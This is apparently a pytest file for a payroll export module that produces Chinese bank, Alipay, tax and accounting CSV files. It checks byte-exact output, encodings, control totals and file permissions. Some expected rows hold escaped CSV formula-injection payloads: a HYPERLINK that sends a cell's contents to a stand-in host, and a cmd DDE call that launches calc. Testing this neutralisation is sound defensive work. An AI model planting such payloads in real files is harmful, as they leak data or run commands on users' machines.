"""Whole files, typed by hand, character by character."""

from __future__ import annotations

import csv
import json
from datetime import date
from decimal import Decimal
from hashlib import sha256
from itertools import permutations
from pathlib import Path

import pytest

from grading.kernel.period import Month
from payroll.exports.files import render_exports, write_exports
from payroll.exports.layouts import TAX_WAGES_2023
from payroll.exports.options import ExportOptions
from payroll.exports.person import ExportPerson

OCTOBER = Month(2026, 10)
PAY_DAY = date(2026, 11, 10)

BANK = """\
序号,户名,账号,开户行,金额,备注
1,王小明,6222000000000000011,中国银行,4225.00,2026年10月工资
2,"'=HYPERLINK(""http://x?""&A2,""a"")",0012345678,'+cmd|'/C calc'!A0,2000.00,2026年10月工资
3,孙七,6222000000000000066,中国银行,1200.00,2026年10月工资
"""

ALIPAY = """\
支付宝批量付款文件模板
序号（必填）,收款方支付宝账号（必填）,收款方姓名（必填）,金额（必填，单位：元）,备注（选填）
1,lilei@example.com,李雷,2400.00,2026年10月工资
"""

TAX_WAGES = """\
工号,*姓名,*证件类型,*证件号码,本期收入,本期免税收入,基本养老保险费,基本医疗保险费,失业保险费,住房公积金,累计子女教育,\
累计继续教育,累计住房贷款利息,累计住房租金,累计赡养老人,累计3岁以下婴幼儿照护,累计个人养老金,企业(职业)年金,商业健康保险,\
税延养老保险,公务交通费用,通讯费用,律师办案费用,西藏附加减除费用,其他,准予扣除的捐赠额,减免税额,协定减免,备注
A001,王小明,居民身份证,110101199003070011,5000.00,,400.00,100.00,25.00,250.00,,,,,,,,,,,,,,,,,,,
A003,"'=HYPERLINK(""http://x?""&A2,""a"")",外国护照,E12345678,2000.00,,,,,,,,,,,,,,,,,,,,,,,,
A004,韩梅梅,居民身份证,11010119900307002X,1000.10,,,,,,,,,,,,,,,,,,,,,,,,
A005,赵六,居民身份证,110101199003070054,500.00,,,,,,,,,,,,,,,,,,,,,,,,
"""

TAX_LABOUR = """\
工号,*姓名,*证件类型,*证件号码,*所得项目,*收入,免税收入,商业健康保险,税延养老保险,其他,允许扣除的税费,减免税额,协定减免,备注
A006,孙七,居民身份证,110101199003070062,一般劳务报酬所得,1200.00,,,,,,,,
"""

TAX_BONUS = """\
工号,*姓名,*证件类型,*证件号码,*全年一次性奖金额,免税收入,其他,准予扣除的捐赠额,减免税额,协定减免,备注
"""

ACCOUNTING = """\
期间,摘要,科目编码,科目名称,部门,薪资项目,借方金额,贷方金额
2026-10,2026年10月工资,6601,销售费用—职工薪酬,,daily_pay,1200.00,
2026-10,2026年10月工资,6601,销售费用—职工薪酬,售前,absence_deduction,-200.50,
2026-10,2026年10月工资,6601,销售费用—职工薪酬,售前,base_pay,6000.00,
2026-10,2026年10月工资,6601,销售费用—职工薪酬,售前,commission,1200.50,
2026-10,2026年10月工资,6601,销售费用—职工薪酬,售前,employer_housing_fund,250.00,
2026-10,2026年10月工资,6601,销售费用—职工薪酬,售前,employer_pension,800.00,
2026-10,2026年10月工资,6601,销售费用—职工薪酬,售后,base_pay,4500.10,
2026-10,2026年10月工资,2211,应付职工薪酬—工资,,net,,10825.10
2026-10,2026年10月工资,1221,其他应收款—员工,,carry_forward,,-300.00
2026-10,2026年10月工资,2241,其他应付款—住房公积金（个人）,,housing_fund,,250.00
2026-10,2026年10月工资,1221,其他应收款—员工,,loss_recovery,,1400.00
2026-10,2026年10月工资,2241,其他应付款—社会保险费（个人）,,medical,,100.00
2026-10,2026年10月工资,2241,其他应付款—社会保险费（个人）,,pension,,400.00
2026-10,2026年10月工资,2241,其他应付款—社会保险费（个人）,,unemployment,,25.00
2026-10,2026年10月工资,2211,应付职工薪酬—住房公积金（单位）,,employer_housing_fund,,250.00
2026-10,2026年10月工资,2211,应付职工薪酬—社会保险费（单位）,,employer_pension,,800.00
"""

WITHHELD = """\
agent_no,name,file,amount,reason,reason_zh,reason_en
A002,李雷,tax_wages.csv,3000.00,id_missing,缺少证件号码。,The identity number is missing.
A004,韩梅梅,bank_generic.csv,1000.10,no_account,未登记银行账号，也未登记支付宝账号。,\
Neither a bank account nor an Alipay account is known.
"""

CONTROL_TOTALS = """\
file,rows,amount,withheld_people,withheld_amount
bank_generic.csv,3,7425.00,1,1000.10
alipay.csv,1,2400.00,0,0.00
tax_wages.csv,4,8500.10,1,3000.00
tax_bonus.csv,0,0.00,0,0.00
tax_labour.csv,1,1200.00,0,0.00
accounting.csv,16,13750.10,0,0.00
"""

EXPECTED = {
    "bank_generic.csv": BANK,
    "alipay.csv": ALIPAY,
    "tax_wages.csv": TAX_WAGES,
    "tax_bonus.csv": TAX_BONUS,
    "tax_labour.csv": TAX_LABOUR,
    "accounting.csv": ACCOUNTING,
    "withheld.csv": WITHHELD,
    "control_totals.csv": CONTROL_TOTALS,
}


def files_of(people: list[ExportPerson], encoding: str = "utf-8-sig") -> dict[str, bytes]:
    return dict(
        render_exports(
            people, company="demo", month=OCTOBER, pay_date=PAY_DAY, options=ExportOptions(encoding=encoding)
        ).files
    )


@pytest.mark.parametrize("name", EXPECTED)
@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-8", "gb18030", "gbk"])
def test_file_by_hand(company: list[ExportPerson], name: str, encoding: str) -> None:
    assert files_of(company, encoding=encoding)[name] == EXPECTED[name].replace("\n", "\r\n").encode(encoding)


def test_default_is_utf8_with_one_byte_order_mark(company: list[ExportPerson]) -> None:
    for name, data in files_of(company).items():
        assert data.count(b"\xef\xbb\xbf") == (0 if name.endswith(".json") else 1), name
        assert name.endswith(".json") or data.startswith(b"\xef\xbb\xbf")


def test_columns_are_as_many_as_the_templates_have() -> None:
    for text, columns in ((TAX_WAGES, 29), (TAX_BONUS, 11), (TAX_LABOUR, 14), (BANK, 6), (ALIPAY.split("\n", 1)[1], 5)):
        assert {len(row) for row in csv.reader(text.splitlines())} == {columns}


def test_the_template_of_24_columns(company: list[ExportPerson]) -> None:
    exports = render_exports(
        company, company="demo", month=OCTOBER, pay_date=None, options=ExportOptions(wages=TAX_WAGES_2023)
    )
    header, first = exports.files["tax_wages.csv"].decode("utf-8-sig").split("\r\n")[:2]
    assert header == (
        "工号,*姓名,*证件类型,*证件号码,本期收入,本期免税收入,基本养老保险费,基本医疗保险费,失业保险费,住房公积金,累计子女教育,"
        "累计继续教育,累计住房贷款利息,累计住房租金,累计赡养老人,累计3岁以下婴幼儿照护,累计个人养老金,企业(职业)年金,"
        "商业健康保险,税延养老保险,其他,准予扣除的捐赠额,减免税额,备注"
    )
    assert header.count(",") == first.count(",") == 23


def test_journal_balances_and_its_debit_is_the_employers_cost() -> None:
    rows = list(csv.DictReader(ACCOUNTING.splitlines()))
    debit = sum(Decimal(row["借方金额"]) for row in rows if row["借方金额"])
    credit = sum(Decimal(row["贷方金额"]) for row in rows if row["贷方金额"])
    assert debit == credit == Decimal("12700.10") + Decimal("1050.00")


def test_control_totals(company: list[ExportPerson]) -> None:
    files = files_of(company, encoding="gb18030")
    totals = json.loads(files["control_totals.json"].decode("utf-8"))
    assert {name: totals[name] for name in totals if name not in {"files", "withheld"}} == {
        "company": "demo",
        "month": "2026-10",
        "pay_date": "2026-11-10",
        "encoding": "gb18030",
        "people": 6,
        "gross": "12700.10",
        "net": "10825.10",
        "employer_cost": "13750.10",
        "nothing_to_pay": ["A005"],
    }
    assert totals["files"][0] == {
        "file": "bank_generic.csv",
        "rows": 3,
        "amount": "7425.00",
        "withheld_people": 1,
        "withheld_amount": "1000.10",
        "sha256": sha256(files["bank_generic.csv"]).hexdigest(),
    }
    assert [row["sha256"] for row in totals["files"]] == [
        sha256(files[row["file"]]).hexdigest() for row in totals["files"]
    ]
    assert totals["withheld"][1] == {
        "agent_no": "A004",
        "name": "韩梅梅",
        "file": "bank_generic.csv",
        "amount": "1000.10",
        "reason": "no_account",
        "reason_zh": "未登记银行账号，也未登记支付宝账号。",
        "reason_en": "Neither a bank account nor an Alipay account is known.",
    }


def test_the_order_of_people_does_not_matter(company: list[ExportPerson]) -> None:
    expected = files_of(company)
    for order in list(permutations(company))[::97]:
        assert files_of(list(order)) == expected


def test_nobody_at_all_gives_headings_alone(tmp_path: Path) -> None:
    report = write_exports(tmp_path, [], company="demo", month=OCTOBER, pay_date=None)
    assert (report.people, report.net, report.withheld) == (0, Decimal("0.00"), ())
    assert (tmp_path / "bank_generic.csv").read_bytes() == "\ufeff序号,户名,账号,开户行,金额,备注\r\n".encode()
    assert json.loads((tmp_path / "control_totals.json").read_bytes())["pay_date"] is None


def test_the_folder_holds_the_files_and_nothing_else(tmp_path: Path, company: list[ExportPerson]) -> None:
    folder = tmp_path / "2026-10" / "exports"
    for _again in range(2):
        report = write_exports(folder, company, company="demo", month=OCTOBER, pay_date=PAY_DAY)
        assert {path.name: path.read_bytes() for path in folder.iterdir()} == files_of(company)
    assert (report.gross, report.net) == (Decimal("12700.10"), Decimal("10825.10"))
    assert [total.file for total in report.files] == list(EXPECTED)[:6]


def test_files_are_for_their_owner_alone(tmp_path: Path, company: list[ExportPerson]) -> None:
    write_exports(tmp_path, company, company="demo", month=OCTOBER, pay_date=PAY_DAY)
    assert {path.stat().st_mode & 0o777 for path in tmp_path.iterdir()} == {0o600}


def test_a_disk_that_fails_leaves_the_earlier_files(
    tmp_path: Path, company: list[ExportPerson], monkeypatch: pytest.MonkeyPatch
) -> None:
    write_exports(tmp_path, company[:1], company="demo", month=OCTOBER, pay_date=PAY_DAY)
    before = {path.name: path.read_bytes() for path in tmp_path.iterdir()}
    calls = iter([None, None, OSError(28, "No space left on device")])

    def full(_descriptor: int) -> None:
        error = next(calls)
        if error:
            raise error

    monkeypatch.setattr("payroll.exports.files.os.fsync", full)
    with pytest.raises(OSError, match="No space"):
        write_exports(tmp_path, company, company="demo", month=OCTOBER, pay_date=PAY_DAY)
    assert {path.name: path.read_bytes() for path in tmp_path.iterdir()} == before
